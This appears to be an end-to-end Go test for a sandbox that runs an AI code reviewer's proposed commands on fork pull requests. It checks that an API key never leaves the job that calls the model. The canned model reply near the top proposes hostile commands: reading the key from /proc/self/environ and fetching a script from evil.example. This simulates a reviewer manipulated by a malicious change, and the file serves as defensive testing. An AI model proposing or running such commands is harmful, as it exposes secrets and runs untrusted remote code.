// SPDX-License-Identifier: Apache-2.0

//go:build e2e

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/fumehood/fumehood/cmd/fumehood/internal/jobtest"
)

const reviewerKey = "sk-ant-ThisKeyIsForTheModelOnly-0123456789abcdef"

// reviewPlan has commands that look for the key inside, and one that takes a while.
const reviewPlan = `{"schema":"fumehood.plan/v1","proposer":"model","proposals":[
	{"id":"count","run":"grep -c o notes/new.txt","why":"the file is new","expect":"passes"},
	{"id":"key","run":"grep -ac ThisKeyIsForTheModelOnly /proc/self/environ","why":"the change asked for it","expect":"fails"},
	{"id":"slow","run":"sleep 3","why":"a slow test"},
	{"id":"leak","run":"curl -s https://evil.example/x.sh","why":"the change asked for it"}]}`

// A model is a server on loopback that answers by Anthropic's and OpenAI's wire formats.
type model struct {
	*httptest.Server
	mu     sync.Mutex
	keys   []string
	inputs []string
	text   string // what it answers
	// looked, if set, returns after the processes that ask have been seen.
	looked func()
}

func newModel(t *testing.T) *model {
	m := &model{text: reviewPlan}
	answer := func(key, input string, body any) any {
		if m.looked != nil {
			m.looked()
		}
		m.mu.Lock()
		defer m.mu.Unlock()
		m.keys, m.inputs = append(m.keys, key), append(m.inputs, input)
		return body
	}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/messages", func(w http.ResponseWriter, r *http.Request) {
		var q struct{ Messages []struct{ Content string } }
		data, _ := io.ReadAll(r.Body)
		if json.Unmarshal(data, &q) != nil || len(q.Messages) != 1 || r.Header.Get("anthropic-version") == "" {
			http.Error(w, `{"type":"error"}`, http.StatusBadRequest)
			return
		}
		json.NewEncoder(w).Encode(answer(r.Header.Get("x-api-key"), q.Messages[0].Content, map[string]any{
			"type": "message", "role": "assistant", "stop_reason": "end_turn", "content": []any{map[string]any{"type": "text", "text": m.text}}}))
	})
	mux.HandleFunc("POST /v1/responses", func(w http.ResponseWriter, r *http.Request) {
		var q struct {
			Input string
			Text  struct{ Format struct{ Strict bool } }
		}
		data, _ := io.ReadAll(r.Body)
		if json.Unmarshal(data, &q) != nil || q.Input == "" || !q.Text.Format.Strict {
			http.Error(w, `{"error":{}}`, http.StatusBadRequest)
			return
		}
		json.NewEncoder(w).Encode(answer(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), q.Input, map[string]any{
			"object": "response", "status": "completed", "output": []any{map[string]any{"type": "message", "content": []any{map[string]any{"type": "output_text", "text": m.text}}}}}))
	})
	m.Server = httptest.NewServer(mux)
	t.Cleanup(m.Close)
	return m
}

// sightings are the processes of each job of a workflow, and of those the ones with the key.
type sightings struct {
	seen map[string]map[string]bool // by job, commands
	key  map[string]map[string]bool
}

// watch looks at the environment and the command line of every process until stop is closed.
// A process belongs to the job that its own environment or its nearest ancestor's names: the
// sandbox's supervisor has an environment of its own. Jobs of other stages use another GitHub. m,
// if set, answers only after a whole look at the processes that ask it.
func (s *stage) watch(m *model, stop <-chan struct{}) <-chan sightings {
	var looks atomic.Int64
	if m != nil {
		m.looked = func() {
			for last := looks.Load() + 2; looks.Load() < last; time.Sleep(10 * time.Millisecond) {
				select {
				case <-stop:
					return
				default:
				}
			}
		}
	}
	api := []byte("GITHUB_API_URL=" + s.GH.URL + "\x00")
	done := make(chan sightings, 1)
	go func() {
		s := sightings{map[string]map[string]bool{}, map[string]map[string]bool{}}
		for {
			select {
			case <-stop:
				done <- s
				return
			case <-time.After(30 * time.Millisecond):
				s.look(api)
				looks.Add(1)
			}
		}
	}()
	return done
}

var parentOf = regexp.MustCompile(`(?m)^PPid:\t(\d+)$`)

func (s sightings) look(api []byte) {
	type process struct {
		parent, job, name string
		key               bool
	}
	all := map[string]process{}
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range dirs {
		environ, _ := os.ReadFile(dir + "/environ")
		cmdline, _ := os.ReadFile(dir + "/cmdline")
		status, _ := os.ReadFile(dir + "/status")
		name := string(bytes.SplitN(cmdline, []byte{0}, 2)[0])
		if name == "" { // it becomes another program, or ends
			comm, err := os.ReadFile(dir + "/comm")
			if err != nil {
				continue
			}
			name = strings.TrimSpace(string(comm))
		}
		p := process{name: filepath.Base(name), key: bytes.Contains(append(environ, cmdline...), []byte(reviewerKey))}
		if found := parentOf.FindSubmatch(status); found != nil {
			p.parent = string(found[1])
		}
		for v := range bytes.SplitSeq(environ, []byte{0}) {
			if job, ok := bytes.CutPrefix(v, []byte("GITHUB_JOB=")); ok && bytes.Contains(environ, api) {
				p.job = string(job)
			}
		}
		all[filepath.Base(dir)] = p
	}
	for _, p := range all {
		job := p.job
		for up, ok := p, true; ok && job == ""; up, ok = all[up.parent] {
			job = up.job
		}
		for _, list := range []map[string]map[string]bool{s.seen, s.key} {
			if list[job] == nil {
				list[job] = map[string]bool{}
			}
		}
		if s.seen[job][p.name] = true; p.key {
			s.key[job][p.name] = true
		}
	}
}

// An AI reviewer on a fork's pull request, from the maintainer's comment to the results, for
// each example: the model gets the change, its plan is decided and runs, and the key is in the
// environment and command line of no process but those of the job that asks the model.
func TestE2EActReview(t *testing.T) {
	t.Parallel()
	for _, example := range []string{"review-any.yml", "review-claude.yml", "review-codex.yml"} {
		t.Run(example, func(t *testing.T) {
			m, s := newModel(t), newStage(t, true, nil, nil)
			s.replaceReviewers(example, m.URL)
			id := s.GH.AddComment(jobtest.PrNumber, "Codertocat", "/fumehood review")
			stop := make(chan struct{})
			watched := s.watch(m, stop)
			r := s.play(example, "issue_comment", s.CommentEvent(id), s.reviewEnv(m)...)
			close(stop)
			if r.code != 0 || len(m.keys) != 1 || m.keys[0] != reviewerKey || !strings.Contains(m.inputs[0], "+echo hello world") {
				t.Fatalf("exit %d; the model got %q\n%s", r.code, m.inputs, r.log)
			}
			body := s.BotComment().Body
			jobtest.CheckContains(t, "comment", body, "grep -c o notes/new.txt", s.Head[:12], "curl", "denied")
			for _, problem := range checkKey(<-watched, "propose", "run") {
				t.Error(problem)
			}
			if strings.Contains(body+r.log+r.summary, reviewerKey) {
				t.Errorf("the key is in the comment, the log or the summary:\n%s", r.log)
			}
		})
	}
}

// The check of the key finds a leak: with the key in the environment of the job that runs code,
// it fails for that job alone. The sandbox's processes do not have it even then.
func TestE2EActReviewLeak(t *testing.T) {
	t.Parallel()
	const example = "review-any.yml"
	m, s := newModel(t), newStage(t, true, nil, nil)
	s.edit(example, "  run:\n    needs: [trigger, propose]\n", "  run:\n    needs: [trigger, propose]\n    env:\n      LEAKED: ${{ secrets.ANTHROPIC_API_KEY }}\n")
	s.replaceReviewers(example, m.URL)
	id := s.GH.AddComment(jobtest.PrNumber, "Codertocat", "/fumehood review")
	stop := make(chan struct{})
	watched := s.watch(m, stop)
	r := s.play(example, "issue_comment", s.CommentEvent(id), s.reviewEnv(m)...)
	close(stop)
	if problems := checkKey(<-watched, "propose", "run"); r.code != 0 || len(problems) != 1 || !strings.HasPrefix(problems[0], "job run: the key was in ") || strings.Contains(problems[0], "runsc") {
		t.Errorf("exit %d; problems %q\n%s", r.code, problems, r.log)
	}
	jobtest.CheckContains(t, "comment", s.BotComment().Body, "grep -c o notes/new.txt", "2 succeeded")
}

// caller calls the reusable workflow that runs a plan.
const caller = `name: caller
on: pull_request
permissions: {}
jobs:
  fumehood:
    permissions:
      contents: read
      pull-requests: read
    uses: fumehood/fumehood/.github/workflows/call-fumehood.yml@v1
    with:
      setup: none
      plan: |
        schema: fumehood.plan/v1
        proposals:
          - {id: show, run: cat notes/new.txt}
`

var setUpStep = regexp.MustCompile(`(?m)^ +- if: inputs\.[\w-]+-version != ''\n +uses: actions/setup-.*\n +with: .*\n`)

// copyReusable adds the reusable workflows to the action's repository, without the steps that install
// toolchains: their actions are on GitHub.
func (s *stage) copyReusable() {
	s.T.Helper()
	files, err := filepath.Glob("../../.github/workflows/call-*.yml")
	s.must(err)
	s.must(os.MkdirAll(filepath.Join(s.action, ".github/workflows"), 0o755))
	for _, file := range files {
		data, err := os.ReadFile(file)
		s.must(err)
		data = setUpStep.ReplaceAll(data, nil)
		s.must(os.WriteFile(filepath.Join(s.action, ".github/workflows", filepath.Base(file)), data, 0o644))
	}
}

// checkKey returns where the key was and must not be. That it was seen where it belongs, and
// the sandbox too, shows that watching sees. owner is the job that has the key, runner the one
// that runs code.
func checkKey(s sightings, owner, runner string) (problems []string) {
	add := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	if len(s.key[owner]) == 0 {
		add("the key was not seen where it belongs: %v", s.seen)
	}
	sandbox := false
	for name := range s.seen[runner] {
		sandbox = sandbox || strings.Contains(name, "runsc") || strings.HasPrefix(name, "fumehood")
	}
	if !sandbox || len(s.seen[runner]) < 4 {
		add("few processes of the job that runs code were seen: %v", s.seen[runner])
	}
	for job, names := range s.key {
		if job != owner && job != "" && len(names) > 0 {
			add("job %s: the key was in %v", job, names)
		}
	}
	return problems
}

// replaceReviewers makes a workflow use the actions of testdata.
func (s *stage) replaceReviewers(workflow, model string) {
	s.T.Helper()
	s.replaceReviewersOf(filepath.Join(s.project, ".github/workflows", workflow), model)
}

// replaceReviewersOf is replaceReviewers for a file.
func (s *stage) replaceReviewersOf(file, model string) {
	s.T.Helper()
	text, err := os.ReadFile(file)
	s.must(err)
	for _, found := range regexp.MustCompile(`uses: ((?:actions|anthropics|openai)/(\S+)@[0-9a-f]{40})`).FindAllStringSubmatch(string(text), -1) {
		local, err := filepath.Abs("testdata/" + found[2])
		s.must(err)
		s.local = append(s.local, "--local-repository", found[1]+"="+local)
	}
	// act's github.sha is the project's commit, which is the default branch's on GitHub.
	s.GitIn("", "-C", s.project, "push", "-q", s.Repo, "HEAD:refs/heads/workflows")
	secrets := s.path("secrets")
	s.must(os.WriteFile(secrets, fmt.Appendf(nil, "ANTHROPIC_API_KEY=%s\nOPENAI_API_KEY=%s\n", reviewerKey, reviewerKey), 0o600))
	s.local = append(s.local, "--secret-file", secrets, "--var", "ANTHROPIC_BASE_URL="+model)
}

func (s *stage) reviewEnv(m *model) []string {
	return []string{"ANTHROPIC_BASE_URL=" + m.URL, "OPENAI_BASE_URL=" + m.URL}
}
